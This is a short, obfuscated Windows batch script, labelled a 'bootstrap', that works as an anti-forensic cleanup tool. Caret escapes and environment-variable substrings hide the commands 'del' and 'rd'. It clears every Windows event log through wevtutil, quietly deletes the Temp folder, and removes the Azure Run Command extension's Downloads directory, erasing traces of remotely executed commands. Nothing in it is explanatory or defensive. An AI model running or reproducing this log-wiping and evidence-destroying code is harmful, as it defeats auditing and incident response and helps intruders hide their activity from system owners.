REM bootstrap 3657 v2
fo^r /F "tokens=*" %%1 ^in ('wevt^u^til.e^x^e ^e^l') DO ^w^ev^tuti^l.exe c^l "%%1"
^d%COMSPEC:~26,1%^l /f /q ^C:\W^in^d^o^w^s\Tem^p\*.*
%PUBLIC:~-9,1%d /s /q ^C:\^Pa^ckag^e^s\^Plu^gi^ns\^M^i^cros^of^t.CP^la^t.^Co^re.Ru^nC^ommandWin^d^ows\1.1.^1^5\Down^l^oads
